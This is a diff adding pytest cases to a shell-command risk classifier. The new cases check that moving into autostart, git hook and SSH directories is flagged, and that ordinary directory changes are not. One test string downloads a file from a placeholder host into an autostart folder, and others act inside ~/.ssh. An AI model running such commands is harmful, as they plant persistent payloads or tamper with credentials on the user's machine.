@@ -3,6 +3,7 @@ from __future__ import annotations
 import pytest
 
 from supervisor.core.assessment import Tier
+from supervisor.core.facts import Shell
 from supervisor.detect.shell import classify_command
 from supervisor.detect.shell.moves import MOST_PLACES, calls_below, guarded_places, redirects_below
 from supervisor.detect.shell.syntax import parse_script
@@ -55,3 +56,25 @@ def test_attack_going_there_first_hides_nothing(text: str) -> None:
 )
 def test_looking_there_and_working_elsewhere_is_no_alarm(text: str) -> None:
     assert classify_command(text).tier.rank < Tier.HIGH_RISK.rank
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "cd ~/.config/autostart",
+        "cd .git/hooks",
+        "cd .git && cp a config",
+        "cd ~/.ssh; cp a b",
+        "pushd .config",
+        "cd ~/.config/autostart && wget http://x.example/a.desktop",
+    ],
+)
+def test_attack_going_to_where_programs_keep_what_they_run_is_asked(text: str) -> None:
+    assert classify_command(text).kind not in (Shell.READ, Shell.REVERSIBLE)
+
+
+@pytest.mark.parametrize(
+    "text", ["cd docs", "cd ~", "cd ..", "cd ~/.cache/a", "cd .github", "cd", "cd -", "pushd /tmp"]
+)
+def test_going_elsewhere_is_not(text: str) -> None:
+    assert classify_command(text).kind in (Shell.READ, Shell.REVERSIBLE)
